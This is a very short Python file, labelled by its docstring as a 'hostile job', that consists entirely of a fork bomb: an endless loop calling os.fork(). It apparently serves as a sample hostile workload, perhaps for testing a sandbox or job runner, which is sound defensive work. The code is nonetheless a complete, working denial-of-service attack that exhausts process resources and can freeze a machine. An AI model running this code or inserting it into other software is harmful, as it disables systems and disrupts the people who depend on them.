"""Hostile job: fork bomb."""
import os
while True:
    os.fork()
